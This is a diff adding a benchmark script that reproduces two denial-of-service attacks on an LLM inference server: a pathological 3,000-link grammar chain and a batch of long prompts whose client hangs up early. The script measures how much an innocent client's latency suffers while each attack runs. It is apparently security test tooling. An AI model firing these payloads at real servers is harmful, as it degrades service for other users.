@@ -1,0 +1,120 @@
+"""The fifth probe's reproducers against a running server, each beside an innocent client.
+
+    pagedllm serve --port 8000 &
+    python benchmarks/hostile_repro.py --url http://localhost:8000 chain-grammar
+    python benchmarks/hostile_repro.py --url http://localhost:8000 hung-up-prompts
+
+chain-grammar: one chat request held to an EBNF chain of 3,000 alternatives that all match
+the same text (``r_i ::= r_{i+1} | r_{i+1} "x"``), whose token masks grow to ~26 s each.
+hung-up-prompts: one /v1/completions of 128 prompts of 1,000 random token ids whose client
+hangs up 3 s after sending it. Both print the innocent client's latencies (a 5-token chat
+request every 0.5 s, from before the attack to 5 s after it ends) and, for the second, how
+long the engine stayed busy (until /metrics shows no request running or waiting).
+"""
+
+from __future__ import annotations
+
+import argparse
+import json
+import random
+import socket
+import threading
+import time
+from urllib.parse import urlparse
+
+import httpx
+
+N_LINKS = 3000
+
+
+def chain_grammar() -> str:
+    links = "\n".join(f'r{i} ::= r{i + 1} | r{i + 1} "x"' for i in range(N_LINKS))
+    return f'root ::= r0\n{links}\nr{N_LINKS} ::= "y"'
+
+
+class Innocent:
+    """A 5-token chat request every 0.5 s on its own thread; latencies in seconds."""
+
+    def __init__(self, http: httpx.Client, model: str) -> None:
+        self.http, self.model = http, model
+        self.latencies: list[float] = []
+        self._done = threading.Event()
+        self._thread = threading.Thread(target=self._run)
+
+    def __enter__(self) -> Innocent:
+        self._thread.start()
+        return self
+
+    def __exit__(self, *exc: object) -> None:
+        self._done.set()
+        self._thread.join()
+
+    def _run(self) -> None:
+        body = {"model": self.model, "messages": [{"role": "user", "content": "Hi"}],
+                "max_tokens": 5}  # fmt: skip
+        while not self._done.is_set():
+            began = time.monotonic()
+            self.http.post("/v1/chat/completions", json=body).raise_for_status()
+            self.latencies.append(time.monotonic() - began)
+            self._done.wait(0.5)
+
+
+def busy(http: httpx.Client) -> bool:
+    metrics = http.get("/metrics").text
+    lines = [line for line in metrics.splitlines() if line.startswith(
+        ("pagedllm:num_requests_running", "pagedllm:num_requests_waiting{"))]  # fmt: skip
+    return any(float(line.rsplit(" ", 1)[1]) > 0 for line in lines)
+
+
+def run_chain_grammar(http: httpx.Client, model: str) -> None:
+    body = {"model": model, "messages": [{"role": "user", "content": "Hi"}], "max_tokens": 5,
+            "guided_grammar": chain_grammar()}  # fmt: skip
+    with Innocent(http, model) as innocent:
+        time.sleep(2)
+        began = time.monotonic()
+        reply = http.post("/v1/chat/completions", json=body)
+        print(f"attack: {reply.status_code} after {time.monotonic() - began:.1f} s")
+        time.sleep(5)
+    print(f"innocent: {summary(innocent.latencies)}")
+
+
+def run_hung_up_prompts(http: httpx.Client, model: str, url: str) -> None:
+    prompts = [[random.randint(1000, 40000) for _ in range(1000)] for _ in range(128)]
+    body = json.dumps({"model": model, "prompt": prompts, "max_tokens": 1}).encode()
+    where = urlparse(url)
+    with Innocent(http, model) as innocent:
+        time.sleep(2)
+        began = time.monotonic()
+        with socket.create_connection((where.hostname, where.port)) as sock:
+            head = (f"POST /v1/completions HTTP/1.1\r\nHost: x\r\nContent-Type: "
+                    f"application/json\r\nContent-Length: {len(body)}\r\n\r\n")  # fmt: skip
+            sock.sendall(head.encode() + body)
+            time.sleep(3)
+        while busy(http):
+            time.sleep(0.5)
+        print(f"engine busy for {time.monotonic() - began:.1f} s after the request was sent")
+        time.sleep(5)
+    print(f"innocent: {summary(innocent.latencies)}")
+
+
+def summary(latencies: list[float]) -> str:
+    ordered = sorted(latencies)
+    return (f"{len(ordered)} requests, median {ordered[len(ordered) // 2]:.2f} s, "
+            f"worst {ordered[-1]:.2f} s")  # fmt: skip
+
+
+def main() -> None:
+    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
+    parser.add_argument("case", choices=["chain-grammar", "hung-up-prompts"])
+    parser.add_argument("--url", default="http://localhost:8000")
+    args = parser.parse_args()
+    with httpx.Client(base_url=args.url, timeout=900) as http:
+        model = http.get("/v1/models").json()["data"][0]["id"]
+        if args.case == "chain-grammar":
+            run_chain_grammar(http, model)
+        else:
+            run_hung_up_prompts(http, model, args.url)
+
+
+if __name__ == "__main__":
+    main()
